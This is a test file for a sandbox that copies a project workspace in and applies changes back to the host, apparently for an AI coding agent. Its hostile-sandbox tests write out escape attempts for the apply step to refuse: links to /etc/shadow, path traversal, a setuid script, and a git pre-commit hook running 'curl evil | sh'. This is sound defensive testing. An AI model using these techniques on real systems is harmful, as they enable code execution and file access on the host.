// The workspace in and out: tar copy-in with ignore rules, ownership, modes and links; changes; a hardened apply.
import crypto from 'node:crypto'
import fs from 'node:fs'
import os from 'node:os'
import path from 'node:path'
import {describe, expect, it} from 'vitest'

import {makeEngine, makeProject, settings} from './helpers/fixtures.js'

const binary = crypto.randomBytes(70_000)
binary[10] = 0
const sha = (data: Buffer): string => crypto.createHash('sha256').update(data).digest('hex')

function project(): string {
  const dir = makeProject({
    'README.md': '# demo\nline 2\nline 3\n',
    'src/main.js': 'console.log(1)\n',
    'bin/tool.sh': '#!/bin/sh\necho tool\n',
    'assets/blob.bin': binary,
    'secret.txt': 'ignored by .qwenignore\n',
    'build/out.js': 'ignored dir\n',
    'debug.log': 'ignored by sandbox.exclude\n',
    '.env': 'OPENAI_API_KEY=sk-never-copied\n',
    '.qwenignore': 'secret.txt\nbuild/\n',
    '.git/HEAD': 'ref: refs/heads/main\n',
    'gone.txt': 'to be deleted\n',
    'becomes-dir': 'a file now\n',
  })
  fs.chmodSync(path.join(dir, 'bin/tool.sh'), 0o750)
  fs.symlinkSync('../README.md', path.join(dir, 'src/readme-link'))
  fs.symlinkSync('/etc/passwd', path.join(dir, 'outside-link'))
  return dir
}

describe('workspace copy in and out', () => {
  it('copies the project in with ignore rules, agent ownership, modes and links kept', async () => {
    const engine = makeEngine()
    await using session = await engine.open(project(), settings({exclude: ['*.log']}))
    const out = (
      await session.exec(
        'find . -path ./.git/objects -prune -o -print | sort; stat -c "%n %u:%g %a" bin/tool.sh README.md; readlink src/readme-link outside-link; sha256sum assets/blob.bin; cat src/readme-link | head -1',
      ).result
    ).stdout.text
    expect(out).toContain('./.git/HEAD')
    expect(out).toContain('./.qwenignore')
    expect(out).not.toMatch(/secret\.txt|build|debug\.log|\.env\n/)
    expect(out).toContain('bin/tool.sh 1000:1000 750')
    expect(out).toContain('README.md 1000:1000 644')
    expect(out).toContain('../README.md\n/etc/passwd\n')
    expect(out).toContain(`${sha(binary)}  assets/blob.bin`)
    expect(out).toContain('# demo')
  })

  it('lists changes (added, modified, deleted, binary, links, type changes) and applies them', async () => {
    const engine = makeEngine()
    const dir = project()
    await using session = await engine.open(dir, settings())
    const newBinary = crypto.randomBytes(5000)
    newBinary[0] = 0
    await session.writeFile('assets/new.bin', newBinary)
    const script = [
      `sed -i 's/line 2/line two/' README.md`,
      'rm gone.txt',
      'chmod 755 src/main.js',
      'mkdir -p src/lib && printf "export {}\\n" > src/lib/index.js',
      'ln -s lib/index.js src/index-link',
      'rm becomes-dir && mkdir becomes-dir && echo inside > becomes-dir/file.txt',
      'touch src/main.js.bak && rm src/main.js.bak',
      'touch -d "2001-01-01" bin/tool.sh',
    ].join(' && ')
    expect((await session.exec(script).result).exitCode).toBe(0)
    const {changes} = await session.changes()
    const summary = Object.fromEntries(changes.map((c) => [c.path, `${c.kind}:${c.entryType}`]))
    expect(summary).toEqual({
      'README.md': 'modified:file',
      'gone.txt': 'deleted:file',
      'src/main.js': 'modified:file',
      'src/lib': 'added:directory',
      'src/lib/index.js': 'added:file',
      'src/index-link': 'added:symlink',
      'assets/new.bin': 'added:file',
      'becomes-dir': 'modified:directory',
      'becomes-dir/file.txt': 'added:file',
    })
    const readme = changes.find((c) => c.path === 'README.md')!
    expect(readme.diff).toBe(
      '--- a/README.md\n+++ b/README.md\n@@ -1,3 +1,3 @@\n # demo\n-line 2\n+line two\n line 3\n',
    )
    const bin = changes.find((c) => c.path === 'assets/new.bin')!
    expect(bin.binary).toBe(true)
    expect(bin.sha256).toBe(sha(newBinary))
    expect(bin.diff).toBeUndefined()
    expect(fs.readFileSync(path.join(dir, 'README.md'), 'utf8')).toContain('line 2')

    const report = await session.apply({sessionId: session.id, changes})
    expect(report.refused).toEqual([])
    expect(fs.readFileSync(path.join(dir, 'README.md'), 'utf8')).toBe('# demo\nline two\nline 3\n')
    expect(fs.existsSync(path.join(dir, 'gone.txt'))).toBe(false)
    expect(fs.statSync(path.join(dir, 'src/main.js')).mode & 0o777).toBe(0o755)
    expect(fs.readlinkSync(path.join(dir, 'src/index-link'))).toBe('lib/index.js')
    expect(sha(fs.readFileSync(path.join(dir, 'assets/new.bin')))).toBe(sha(newBinary))
    expect(fs.readFileSync(path.join(dir, 'becomes-dir/file.txt'), 'utf8')).toBe('inside\n')
    expect(fs.readdirSync(path.join(dir, 'src')).filter((n) => n.includes('sandbox-agent'))).toEqual([])
    // applied: nothing left to report
    expect((await session.changes()).changes).toEqual([])
  })

  it('refuses to overwrite what changed on the host meanwhile, unless forced', async () => {
    const engine = makeEngine()
    const dir = project()
    await using session = await engine.open(dir, settings())
    await session.exec('echo sandbox >> README.md').result
    fs.appendFileSync(path.join(dir, 'README.md'), 'host edit\n')
    const changeSet = await session.changes()
    expect(changeSet.changes.find((c) => c.path === 'README.md')?.hostChanged).toBe(true)
    const report = await session.apply(changeSet)
    expect(report.refused).toEqual([{path: 'README.md', reason: 'changed on the host since the session started'}])
    expect(fs.readFileSync(path.join(dir, 'README.md'), 'utf8')).toContain('host edit')
    expect((await session.apply(changeSet, {force: true})).applied).toEqual(['README.md'])
  })
})

describe('apply against a hostile sandbox', () => {
  it('refuses links out, devices, .git, oversize files; strips setuid; never writes outside', async () => {
    const engine = makeEngine()
    const dir = project()
    const outside = fs.mkdtempSync(path.join(os.tmpdir(), 'sandbox-outside-'))
    fs.symlinkSync(outside, path.join(dir, 'escape-dir'))
    await using session = await engine.open(dir, settings({maxApplyBytes: 100_000}))
    const script = [
      'ln -s /etc/shadow abs-link',
      'ln -s ../../../../etc rel-escape',
      'mkfifo a-fifo',
      'echo "#!/bin/sh" > suid.sh && chmod 4755 suid.sh',
      'mkdir -p .git/hooks && echo "curl evil | sh" > .git/hooks/pre-commit',
      'head -c 200000 /dev/urandom > too-big.bin',
      'truncate -s 10G sparse.bin',
      'rm escape-dir && mkdir escape-dir && echo pwned > escape-dir/pwned.txt',
      'ln README.md hard-link',
    ].join(' && ')
    expect((await session.exec(script).result).exitCode).toBe(0)
    const changeSet = await session.changes()
    const report = await session.apply(changeSet)
    const refused = Object.fromEntries(report.refused.map((r) => [r.path, r.reason]))
    expect(refused['abs-link']).toMatch(/absolute/)
    expect(refused['rel-escape']).toMatch(/outside the project/)
    expect(refused['a-fifo']).toMatch(/fifos/)
    expect(refused['.git/hooks/pre-commit']).toMatch(/\.git/)
    expect(refused['too-big.bin']).toMatch(/apply limit/)
    expect(refused['sparse.bin']).toMatch(/apply limit/)
    expect(fs.existsSync(path.join(dir, 'abs-link'))).toBe(false)
    expect(fs.existsSync(path.join(dir, 'sparse.bin'))).toBe(false)
    expect(fs.existsSync(path.join(dir, '.git/hooks/pre-commit'))).toBe(false)
    // the setuid bit is stripped; a hard link arrives as a plain copy
    expect(fs.statSync(path.join(dir, 'suid.sh')).mode & 0o7777).toBe(0o755)
    expect(fs.lstatSync(path.join(dir, 'hard-link')).nlink).toBe(1)
    // the host symlink was replaced by a real directory; nothing went through it
    expect(fs.readdirSync(outside)).toEqual([])
    expect(fs.lstatSync(path.join(dir, 'escape-dir')).isDirectory()).toBe(true)
  })

  it('refuses forged change sets: absolute paths, .., and writes through host symlinks', async () => {
    const engine = makeEngine()
    const dir = project()
    const outside = fs.mkdtempSync(path.join(os.tmpdir(), 'sandbox-outside-'))
    fs.symlinkSync(outside, path.join(dir, 'link-to-outside'))
    await using session = await engine.open(dir, settings())
    await session.exec('echo x > plain.txt').result
    const forged = (p: string) => ({
      path: p,
      kind: 'added' as const,
      entryType: 'file' as const,
      binary: false,
      size: 2,
    })
    const report = await session.apply({
      sessionId: session.id,
      changes: [
        forged('/tmp/abs.txt'),
        forged('../escape.txt'),
        forged('a/../../escape.txt'),
        forged('link-to-outside/plain.txt'),
        forged('.GIT/config'),
      ],
    })
    expect(report.applied).toEqual([])
    expect(Object.fromEntries(report.refused.map((r) => [r.path, r.reason]))).toEqual({
      '/tmp/abs.txt': 'absolute path',
      '../escape.txt': 'path escapes the project (..)',
      'a/../../escape.txt': 'path escapes the project (..)',
      'link-to-outside/plain.txt': 'parent link-to-outside is a symlink on the host',
      '.GIT/config': 'changes to .git are never applied (hooks and config could run code on the host)',
    })
    expect(fs.readdirSync(outside)).toEqual([])
  })
})
